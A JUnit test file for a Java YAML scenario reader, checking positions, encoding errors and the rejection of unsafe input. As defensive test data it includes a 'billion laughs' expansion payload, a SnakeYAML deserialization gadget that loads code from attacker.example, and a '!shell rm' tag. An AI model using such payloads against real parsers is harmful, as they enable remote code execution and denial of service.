package org.clustersim.scenario.yaml;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import java.util.Random;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Reading single files: the happy path, and every way a file can be rejected. */
class YamlReaderTest {

    @TempDir
    Path dir;

    private Path write(String name, String content) throws IOException {
        return write(name, content.getBytes(StandardCharsets.UTF_8));
    }

    private Path write(String name, byte[] content) throws IOException {
        Path file = dir.resolve(name);
        Files.write(file, content);
        return file;
    }

    /** Reads a file that must fail, and checks its only problem exactly. */
    private static void assertOnlyProblem(Path file, int line, int column, String message) {
        ScenarioException e = assertThrows(ScenarioException.class, () -> YamlReader.read(file));
        assertEquals(List.of(new Problem(new Position(file.toString(), line, column), message)), e.problems());
    }

    @Test
    void readsValuesWithTheirPositions() throws Exception {
        Path file = write("ok.yaml", "name: demo\nquoted: 'q'\ncount: !!str 12\nitems:\n  - 1\n  - two\nnested:\n  a: ~\n");
        String f = file.toString();
        YMap map = YamlReader.read(file);
        assertEquals(List.of("name", "quoted", "count", "items", "nested"), List.copyOf(map.keys()));
        assertEquals(new YScalar("demo", true, null, new Position(f, 1, 7)), map.get("name"));
        assertEquals(new YScalar("q", false, null, new Position(f, 2, 9)), map.get("quoted"));
        assertEquals(new YScalar("12", true, "!!str", new Position(f, 3, 8)), map.get("count"));
        assertEquals(new YList(List.of(new YScalar("1", true, null, new Position(f, 5, 5)),
                new YScalar("two", true, null, new Position(f, 6, 5))), new Position(f, 5, 3)), map.get("items"));
        YMap nested = (YMap) map.get("nested");
        assertEquals(new Position(f, 8, 3), nested.entry("a").keyPosition());
        assertEquals("nothing (null)", nested.get("a").describe());
        assertEquals(new Position(f, 1, 1), map.position());
    }

    @Test
    void byteOrderMarkIsIgnored() throws Exception {
        Path file = write("bom.yaml", "\uFEFFa: 1\n");
        assertEquals(new Position(file.toString(), 1, 1), YamlReader.read(file).entry("a").keyPosition());
    }

    @Test
    void emptyAndCommentOnlyFilesAreRejected() throws Exception {
        String message = "file is empty: expected a mapping of keys such as name, description, ...";
        assertOnlyProblem(write("empty.yaml", ""), 1, 1, message);
        assertOnlyProblem(write("comments.yaml", "# only a comment\n\n   \n"), 1, 1, message);
    }

    @Test
    void missingFileIsAProblem() {
        assertOnlyProblem(dir.resolve("nope.yaml"), 1, 1, "file not found");
    }

    @Test
    void twoMegabyteFileIsRejectedBeforeParsing() throws Exception {
        byte[] content = new byte[2 * 1024 * 1024];
        java.util.Arrays.fill(content, (byte) '#');
        assertOnlyProblem(write("big.yaml", content), 1, 1, "file is 2097152 bytes; the limit is 1048576");
    }

    @Test
    void randomBytesGiveAProblemNotACrash() throws Exception {
        byte[] junk = new byte[4096];
        new Random(42).nextBytes(junk);
        Path file = write("junk.yaml", junk);
        ScenarioException e = assertThrows(ScenarioException.class, () -> YamlReader.read(file));
        assertEquals(1, e.problems().size());
        // The first byte of this seeded sequence is ASCII; the second starts no valid UTF-8 sequence.
        assertEquals(file + ":1:2: file is not UTF-8 text: invalid byte at offset 1 (is it a binary file?)", e.getMessage());
    }

    @Test
    void invalidUtf8IsReportedWhereItIs() throws Exception {
        byte[] latin1 = "a: ok\nb: caf\u00e9\n".getBytes(StandardCharsets.ISO_8859_1);
        assertOnlyProblem(write("latin1.yaml", latin1), 2, 7,
                "file is not UTF-8 text: invalid byte at offset 12 (is it a binary file?)");
    }

    @Test
    void controlCharactersAreReportedWhereTheyAre() throws Exception {
        assertOnlyProblem(write("nul.yaml", "a: 1\nb: x\u0000y\n"), 2, 5,
                "file contains the control character U+0000, which YAML does not allow (is it a binary file?)");
        assertOnlyProblem(write("bell.yaml", "a: \u0007\n"), 1, 4,
                "file contains the control character U+0007, which YAML does not allow (is it a binary file?)");
    }

    @Test
    void duplicateKeysAreReportedAtTheSecondOccurrence() throws Exception {
        assertOnlyProblem(write("dup.yaml", "a: 1\nb:\n  x: 1\n  y: 2\n  x: 3\n"), 5, 3, "duplicate key 'x' (first at line 3)");
    }

    @Test
    void tabsInIndentationAreExplained() throws Exception {
        assertOnlyProblem(write("tabs.yaml", "a:\n  b: 1\n\tc: 2\n"), 3, 1, "tabs are not allowed for indentation: use spaces");
    }

    @Test
    void syntaxErrorsKeepSnakeYamlsPosition() throws Exception {
        assertOnlyProblem(write("syntax.yaml", "a: [1, 2\nb: 3\n"), 2, 2,
                "while parsing a flow sequence: expected ',' or ']', but got :");
    }

    @Test
    void onlyOneDocumentIsAllowed() throws Exception {
        assertOnlyProblem(write("two.yaml", "a: 1\n---\nb: 2\n"), 2, 1,
                "expected a single document in the stream: but found another document");
    }

    @Test
    void topLevelMustBeAMapping() throws Exception {
        assertOnlyProblem(write("list.yaml", "- a\n- b\n"), 1, 1, "expected a mapping at the top level, got a list");
        assertOnlyProblem(write("word.yaml", "hello\n"), 1, 1, "expected a mapping at the top level, got the text 'hello'");
    }

    @Test
    void billionLaughsIsRejectedFast() throws Exception {
        StringBuilder yaml = new StringBuilder("a: &a [\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\"]\n");
        for (char level = 'b'; level <= 'i'; level++) {
            String previous = "*" + (char) (level - 1);
            yaml.append(level).append(": &").append(level).append(" [")
                    .append(String.join(",", java.util.Collections.nCopies(9, previous))).append("]\n");
        }
        Path file = write("lol.yaml", yaml.toString());
        assertTimeoutPreemptively(Duration.ofSeconds(2), () -> assertOnlyProblem(file, 1, 1,
                "too many aliases (a 'billion laughs' attack?): Number of aliases for non-scalar nodes exceeds the specified max=20"));
    }

    @Test
    void expansionBelowTheAliasLimitIsStillCapped() throws Exception {
        // 100,000 items copied 11 times: only 11 aliases, but 1.1 million values once expanded.
        String items = String.join(",", java.util.Collections.nCopies(100_000, "0"));
        Path file = write("wide.yaml", "a: &a [" + items + "]\nb: [" + String.join(",", java.util.Collections.nCopies(11, "*a")) + "]\n");
        // The cap is hit inside the ninth copy, at item 99,989 of the anchored list, which
        // starts at column 8 ("a: &a [") with two characters per item: 8 + 2 * 99,988.
        assertTimeoutPreemptively(Duration.ofSeconds(5), () -> assertOnlyProblem(file, 1, 199_984,
                "too many aliases (a 'billion laughs' attack?): the data expands to more than 1000000 values"));
    }

    @Test
    void aliasesAreExpandedIntoCopiesWithTheAnchorsPositions() throws Exception {
        Path file = write("alias.yaml", "base: &b {x: 1}\nother: *b\n");
        YMap map = YamlReader.read(file);
        assertEquals(map.get("base"), map.get("other"));
        assertEquals(new Position(file.toString(), 1, 7), map.get("other").position());
    }

    @Test
    void recursiveAliasesAreRejected() throws Exception {
        assertOnlyProblem(write("loop.yaml", "a: &a [1, *a]\n"), 1, 4,
                "an alias refers to a value that contains it: recursive data is not allowed");
    }

    @Test
    void deepNestingIsRejected() throws Exception {
        assertOnlyProblem(write("deep.yaml", "a: " + "[".repeat(50) + "]".repeat(50) + "\n"), 1, 1,
                "the data is nested too deeply: Nesting Depth exceeded max 40");
    }

    @Test
    void javaObjectTagsAreRejectedEverywhere() throws Exception {
        Path file = write("gadget.yaml", "x: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader "
                + "[[!!java.net.URL [\"http://attacker.example/\"]]]]\n");
        ScenarioException e = assertThrows(ScenarioException.class, () -> YamlReader.read(file));
        String suffix = " is not allowed: scenario files hold plain data only";
        assertEquals(List.of(
                new Problem(new Position(file.toString(), 1, 4), "explicit tag !!javax.script.ScriptEngineManager" + suffix),
                new Problem(new Position(file.toString(), 1, 40), "explicit tag !!java.net.URLClassLoader" + suffix),
                new Problem(new Position(file.toString(), 1, 68), "explicit tag !!java.net.URL" + suffix)), e.problems());
    }

    @Test
    void localAndNonPlainDataTagsAreRejected() throws Exception {
        assertOnlyProblem(write("local.yaml", "a: !shell rm\n"), 1, 4, "explicit tag !shell is not allowed: scenario files hold plain data only");
        assertOnlyProblem(write("set.yaml", "a: !!set {x: ~}\n"), 1, 4, "explicit tag !!set is not allowed: scenario files hold plain data only");
        assertOnlyProblem(write("bin.yaml", "a: !!binary aGk=\n"), 1, 4, "explicit tag !!binary is not allowed: scenario files hold plain data only");
    }

    @Test
    void mergeKeysAndNonTextKeysAreRejected() throws Exception {
        assertOnlyProblem(write("merge.yaml", "a: &a {x: 1}\nb:\n  <<: *a\n"), 3, 3,
                "merge keys ('<<') are not supported: write the values out or use 'extends'");
        assertOnlyProblem(write("key.yaml", "[a, b]: 1\n"), 1, 1, "a key must be plain text, got a list");
    }

    @Test
    void severalProblemsAreReportedTogetherInFileOrder() throws Exception {
        Path file = write("many.yaml", "a: 1\nb: !x 2\na: 3\n");
        ScenarioException e = assertThrows(ScenarioException.class, () -> YamlReader.read(file));
        assertEquals(file + ":2:4: explicit tag !x is not allowed: scenario files hold plain data only\n"
                + file + ":3:1: duplicate key 'a' (first at line 1)", e.getMessage());
    }
}
